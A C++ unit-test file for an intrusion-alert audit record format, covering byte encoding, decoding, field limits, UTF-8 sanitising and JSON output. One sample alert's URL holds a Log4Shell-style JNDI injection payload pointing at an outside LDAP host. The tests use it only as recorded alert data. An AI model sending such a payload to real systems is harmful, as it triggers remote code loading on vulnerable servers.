#include "audit/record/record.hpp"

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include "audit/testing/samples.hpp"
#include "base/text.hpp"

using namespace menshen;
using namespace menshen::audit;

namespace {
std::string bytes_of(const Record& record) {
  auto bytes = encode(record);
  REQUIRE(bytes);
  return *bytes;
}
ErrorCode code_of(const Record& record) {
  const auto bytes = encode(record);
  REQUIRE_FALSE(bytes);
  CHECK_FALSE(bytes.error().text.zh.empty());
  return bytes.error().code;
}
}  // namespace

TEST_CASE("a record's byte form can be read back") {
  Record full = sample_alert(7);
  full.stamp = Stamp{1'700'000'000'000'000'001, 990, 4711};
  for (Record record : {full, sample_alert(1), sample_admin(2)}) {
    const std::string bytes = bytes_of(record);
    const auto back = decode(as_bytes(bytes));
    REQUIRE(back);
    CHECK(*back == record);
    CHECK(bytes_of(*back) == bytes);
  }
}

TEST_CASE("the byte form is the documented one") {
  Record record;
  record.time = 1;
  record.monotonic = 2;
  record.boot.fill(0xbb);
  record.source = "s";
  record.epoch = 3;
  record.sequence = 4;
  record.kind = Kind::drop;
  record.severity = Severity::high;
  record.outcome = Outcome::blocked;
  record.src = IpAddr::v4(0x0a000001);
  record.sport = 0x1234;
  record.dport = 80;
  record.proto = 6;
  record.rule = RuleId{1, 0x01020304, 2};
  record.message = "m";
  record.stamp = Stamp{5, 6, 7};
  using namespace std::string_literals;
  const std::string expected =
      "MSAR\0\1"s + "\0\0\0\0\0\0\0\1"s + "\0\0\0\0\0\0\0\2"s + std::string(16, '\xbb') +
      "\0\0\0\0\0\0\0\3"s + "\0\0\0\0\0\0\0\4"s + "\2\3\4\5"s + "\x12\x34\0\x50\6"s +
      "\0\0\0\0\0\0\0\0\0\0\xff\xff\x0a\0\0\1"s + "\0\0\0\1\1\2\3\4\0\0\0\2"s + "\0\1s"s +
      "\0\0\0\0\0\0\0\0\0\0\0\0"s + "\0\1m\0\0"s + "\0\0\0\0\0\0\0\5\0\0\0\6\0\0\0\7\1"s;
  CHECK(bytes_of(record) == expected);
}

TEST_CASE("only canonical bytes are a record") {
  const std::string good = bytes_of(sample_alert(1));
  SECTION("every shorter prefix is refused") {
    for (std::size_t n = 0; n < good.size(); ++n) {
      INFO(n);
      CHECK_FALSE(decode(as_bytes(std::string_view(good).substr(0, n))));
    }
  }
  SECTION("a byte more is refused") { CHECK_FALSE(decode(as_bytes(good + '\0'))); }
  SECTION("another version is refused") {
    std::string other = good;
    other[5] = 2;
    const auto result = decode(as_bytes(other));
    REQUIRE_FALSE(result);
    CHECK(result.error().text.en.find("version 2") != std::string::npos);
  }
  SECTION("unknown enumerators and flags are refused") {
    for (const std::size_t offset : {54U, 55U, 56U, 57U}) {
      std::string other = good;
      other[offset] = '\x7f';
      CHECK_FALSE(decode(as_bytes(other)));
    }
  }
  SECTION("whatever else is accepted encodes to itself") {
    for (std::size_t i = 0; i < good.size(); ++i) {
      for (int bit = 0; bit < 8; ++bit) {
        std::string other = good;
        other[i] = static_cast<char>(other[i] ^ (1 << bit));
        const auto record = decode(as_bytes(other));
        if (record) CHECK(bytes_of(*record) == other);
      }
    }
  }
}

TEST_CASE("two deliveries differ in nothing but the stamp") {
  Record first = sample_alert(1);
  Record second = first;
  const std::string bare = bytes_of(first);
  first.stamp = Stamp{1, 2, 3};
  second.stamp = Stamp{4, 5, 6};
  const std::string a = bytes_of(first);
  const std::string b = bytes_of(second);
  CHECK(a != b);
  CHECK(as_text(without_stamp(as_bytes(a))) == as_text(without_stamp(as_bytes(b))));
  CHECK(as_text(without_stamp(as_bytes(a))) == as_text(without_stamp(as_bytes(bare))));
  CHECK(without_stamp({}).empty());
}

TEST_CASE("each field has its limit") {
  const auto limits = {
      std::pair{&Record::subject, subject_bytes_max},
      std::pair{&Record::action, action_bytes_max},
      std::pair{&Record::object, object_bytes_max},
      std::pair{&Record::domain_src, domain_bytes_max},
      std::pair{&Record::domain_dst, domain_bytes_max},
      std::pair{&Record::policy_line, policy_line_bytes_max},
      std::pair{&Record::message, record_message_bytes_max},
      std::pair{&Record::detail, detail_bytes_max},
  };
  Record longest = sample_alert(1);
  longest.source.assign(source_bytes_max, 'a');
  longest.stamp = Stamp{};
  for (const auto& [member, bytes_max] : limits) {
    Record record = sample_alert(1);
    (record.*member).assign(bytes_max, 'x');
    longest.*member = record.*member;
    CHECK(encode(record));
    (record.*member).push_back('x');
    CHECK(code_of(record) == ErrorCode::limit);
    fit(record);
    CHECK(encode(record));
  }
  const std::string bytes = bytes_of(longest);
  CHECK(bytes.size() <= record_bytes_max);
  CHECK(decode(as_bytes(bytes)));
}

TEST_CASE("what cannot be a record is refused and leaves the output as it was") {
  Record record = sample_alert(1);
  SECTION("source") {
    record.source = GENERATE(as<std::string>{}, "", "Sensor", "a b", "a/b", std::string(65, 'a'));
  }
  SECTION("sequence from 1") { record.sequence = 0; }
  SECTION("sequence fits SQLite") { record.sequence = 1ULL << 63U; }
  SECTION("kind") { record.kind = Kind{12}; }
  SECTION("UTF-8") { record.message = "\xff"; }
  CHECK(code_of(record) == ErrorCode::invalid);
  std::string out = "before";
  CHECK_FALSE(encode(record, out));
  CHECK(out == "before");
}

TEST_CASE("fit makes an attacker's bytes recordable") {
  Record record = sample_alert(1);
  record.message = std::string("/a\xff\xc0\xaf\xed\xa0\x80") + "门";
  record.subject = std::string(255, 'a') + "门";  // the character would be broken by the limit
  record.detail = "\"" + std::string(detail_bytes_max, 'x') + "\"";
  fit(record);
  CHECK(is_utf8(record.message));
  CHECK(record.message.starts_with("/a\xef\xbf\xbd"));
  CHECK(record.message.ends_with("门"));
  CHECK(record.subject == std::string(255, 'a'));
  CHECK(record.detail == R"({"truncated_bytes":49154})");
  CHECK(encode(record));
}

TEST_CASE("the JSON form holds what the record holds") {
  Record record = sample_alert(9);
  record.stamp = Stamp{0, 990, 1};
  const auto json = nlohmann::json::parse(to_json(record, 12));
  CHECK(json["number"] == 12);
  CHECK(json["kind"] == "alert");
  CHECK(json["severity"] == "high");
  CHECK(json["src"] == "10.10.0.5");
  CHECK(json["rule"]["sid"] == 2034647);
  CHECK(json["detail"]["http"]["url"] == "/${jndi:ldap://203.0.113.9/a}");
  CHECK(json["stamp"]["uid"] == 990);
  CHECK_FALSE(json.contains("policy_line"));

  SECTION("a detail that is no JSON is a string") {
    record.detail = "{\"a\": nope";
    CHECK(nlohmann::json::parse(to_json(record))["detail"] == "{\"a\": nope");
  }
  SECTION("one line, however the detail is written") {
    record.detail = "{\n\"a\":\r\n1}";
    CHECK(to_json(record).find_first_of("\r\n") == std::string::npos);
    CHECK(nlohmann::json::parse(to_json(record))["detail"]["a"] == 1);
  }
  SECTION("a deep detail costs no stack") {
    record.detail = std::string(20'000, '[') + std::string(20'000, ']');
    CHECK(to_json(record).find(record.detail) != std::string::npos);
  }
}

TEST_CASE("names can be read back") {
  for (std::uint8_t i = 1; i <= 11; ++i) {
    CHECK(parse_kind(name(Kind{i})) == Kind{i});
  }
  for (std::uint8_t i = 0; i <= 4; ++i) {
    CHECK(parse_severity(name(Severity{i})) == Severity{i});
  }
  for (std::uint8_t i = 0; i <= 5; ++i) {
    CHECK(parse_outcome(name(Outcome{i})) == Outcome{i});
  }
  CHECK_FALSE(parse_kind("Alert"));
}

TEST_CASE("this boot has an identifier") {
  const auto id = current_boot_id();
  REQUIRE(id);
  CHECK(*id == *current_boot_id());
  CHECK(*id != BootId{});
}
